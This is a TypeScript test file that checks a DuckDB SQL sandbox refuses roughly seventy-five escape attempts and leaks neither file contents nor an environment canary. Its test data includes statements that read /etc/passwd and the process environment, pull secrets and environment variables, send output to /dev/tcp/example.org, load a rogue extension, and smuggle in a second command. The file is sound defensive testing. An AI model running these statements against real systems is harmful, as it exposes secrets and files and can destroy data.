import { afterAll, describe, expect, it } from 'vitest';
import { tableFromCsv } from '../../../../src/core/table/csv-text.ts';
import { openSandbox } from '../../../../src/tabular-files/sandbox/open-sandbox.ts';

const CANARY = 'canary-key-5e1f';
process.env['MENDBENCH_TEST_CANARY'] = CANARY;
const table = tableFromCsv('_rid,city\nr1,Boston\nr2,\n');
const sandbox = openSandbox(table, new AbortController().signal);
afterAll(async () => {
  delete process.env['MENDBENCH_TEST_CANARY'];
  await sandbox.close();
});

/** Statements that would reach something other than the table, with what the answer must say. */
const ESCAPES: readonly (readonly [sql: string, says: string])[] = [
  ["SELECT * FROM read_csv('/etc/passwd')", 'read_csv is closed'],
  ["SELECT * FROM read_csv_auto('/etc/passwd', delim = ':')", 'read_csv_auto is closed'],
  ["SELECT * FROM read_text('/etc/passwd')", 'read_text is closed'],
  ["SELECT * FROM read_blob('/proc/self/environ')", 'read_blob is closed'],
  ["SELECT * FROM read_json('/etc/hosts')", 'read_json is closed'],
  ["SELECT * FROM glob('/**')", 'glob is closed'],
  ["SELECT * FROM '/etc/passwd'", 'no table /etc/passwd'],
  ['SELECT * FROM "/etc/passwd"', 'no table /etc/passwd'],
  ["SELECT * FROM 'package.json'", 'no table package.json'],
  ["SELECT * FROM 'https://example.org/a.parquet'", 'no table https://example.org/a.parquet'],
  ["SELECT * FROM read_parquet('https://example.org/a.parquet')", 'read_parquet is closed'],
  ["SELECT * FROM parquet_metadata('/tmp/a.parquet')", 'parquet_metadata is closed'],
  ["SELECT * FROM sniff_csv('/etc/passwd')", 'sniff_csv is closed'],
  ["COPY t TO '/tmp/out.csv'", 'only SELECT'],
  ["COPY (SELECT * FROM t) TO '/dev/tcp/example.org/80'", 'only SELECT'],
  ["COPY t FROM '/etc/passwd'", 'only SELECT'],
  ["ATTACH '/tmp/a.db' AS a", 'only SELECT'],
  ["EXPORT DATABASE '/tmp/out'", 'only SELECT'],
  ["IMPORT DATABASE '/tmp/out'", ''],
  ['INSTALL httpfs', 'only SELECT'],
  ["INSTALL spatial FROM 'https://example.org'", 'only SELECT'],
  ['LOAD httpfs', 'only SELECT'],
  ["LOAD '/tmp/evil.duckdb_extension'", 'only SELECT'],
  ['SET enable_external_access = true', 'only SELECT'],
  ["SET temp_directory = '/tmp'", 'only SELECT'],
  ['RESET lock_configuration', 'only SELECT'],
  ['PRAGMA database_list', 'only SELECT'],
  ["PRAGMA enable_profiling = 'json'", 'only SELECT'],
  ['SELECT * FROM pragma_database_list()', 'pragma_database_list is closed'],
  ["SELECT * FROM pragma_table_info('t')", 'pragma_table_info is closed'],
  ["SELECT getenv('MENDBENCH_TEST_CANARY')", 'getenv is closed'],
  ["SELECT current_setting('home_directory')", 'current_setting is closed'],
  ['SELECT * FROM duckdb_settings()', 'duckdb_settings is closed'],
  ['SELECT * FROM duckdb_secrets()', 'duckdb_secrets is closed'],
  ['SELECT * FROM duckdb_extensions()', 'duckdb_extensions is closed'],
  ['SELECT * FROM duckdb_databases()', 'duckdb_databases is closed'],
  ['SELECT * FROM information_schema.tables', 'no table tables'],
  ['SELECT * FROM pg_catalog.pg_settings', 'no table pg_settings'],
  ['SELECT * FROM sqlite_master', 'no table sqlite_master'],
  ['WITH sqlite_master AS (SELECT 1) SELECT * FROM sqlite_master', 'no table sqlite_master'],
  ["CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", 'only SELECT'],
  ['SELECT 1; DROP TABLE t', '2 statements'],
  ['SELECT 1; /* ; */ -- x\n; SELECT 2', '2 statements'],
  ["SELECT 1 /* ' */; COPY t TO '/tmp/x' --'", '2 statements'],
  ['', 'no statement'],
  ['-- SELECT * FROM t', 'no statement'],
  ['WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone', 'CTE needs a SELECT'],
  ['UPDATE t SET city = NULL', 'only SELECT'],
  ['DELETE FROM t', 'only SELECT'],
  ["INSERT INTO t VALUES ('r3', 'x')", 'only SELECT'],
  ['CREATE TABLE u AS SELECT * FROM t', 'only SELECT'],
  ['CREATE MACRO steal(p) AS TABLE SELECT * FROM read_text(p)', 'only SELECT'],
  ['CREATE SEQUENCE s', 'only SELECT'],
  ["SELECT nextval('s')", 'nextval is closed'],
  ['PREPARE p AS SELECT 1', 'only SELECT'],
  ['EXECUTE p', 'only SELECT'],
  ["CALL read_text('/etc/passwd')", 'only SELECT'],
  ['PIVOT t ON city', '2 statements'],
  ["SELECT * FROM t PIVOT (count(*) FOR city IN ('Boston'))", 'PIVOT is closed'],
  ['DESCRIBE t', 'DESCRIBE, SHOW or SUMMARIZE is closed'],
  ['SHOW ALL TABLES', 'SHOW'],
  ['SUMMARIZE t', 'SUMMARIZE is closed'],
  ['SELECT * FROM t JOIN (DESCRIBE t) ON true', 'DESCRIBE'],
  ['EXPLAIN ANALYZE SELECT * FROM t', 'only SELECT'],
  ["SELECT * FROM query('SELECT 1')", 'query is closed'],
  ["SELECT * FROM query_table(['t'])", 'query_table is closed'],
  ["SELECT * FROM json_execute_serialized_sql('{}')", 'json_execute_serialized_sql is closed'],
  ["SELECT city, (SELECT content FROM read_text('/etc/passwd')) FROM t", 'read_text is closed'],
  ["SELECT * FROM t WHERE city IN (SELECT a FROM (SELECT * FROM '/etc/passwd') x(a))", 'no table /etc/passwd'],
  ["SELECT * FROM t UNION ALL SELECT file, '' FROM glob('*')", 'glob is closed'],
  ["SELECT * FROM t ORDER BY (SELECT max(file) FROM glob('*'))", 'glob is closed'],
  ['CHECKPOINT', 'only SELECT'],
  ['VACUUM t', 'only SELECT'],
  ['BEGIN TRANSACTION', 'only SELECT'],
  ['USE memory', 'only SELECT'],
];

describe('The SQL sandbox', () => {
  it('is held to at least thirty escapes', () => {
    expect(new Set(ESCAPES.map(([sql]) => sql)).size).toBeGreaterThanOrEqual(30);
  });

  it.each(ESCAPES)('refuses %s', async (sql, says) => {
    const reply = await sandbox.query(sql);
    expect(['refused', 'failed']).toContain(reply.kind);
    expect(reply).toHaveProperty('message', expect.stringContaining(says));
    expect(JSON.stringify(reply)).not.toMatch(/root:|canary-key/u);
    const transformed = await sandbox.transform(sql);
    expect(['refused', 'failed']).toContain(transformed.kind);
  });

  it('still holds the table as it was after all of them', async () => {
    const reply = await sandbox.transform('SELECT * FROM t');
    expect(reply).toEqual({ kind: 'table', table });
  });
});
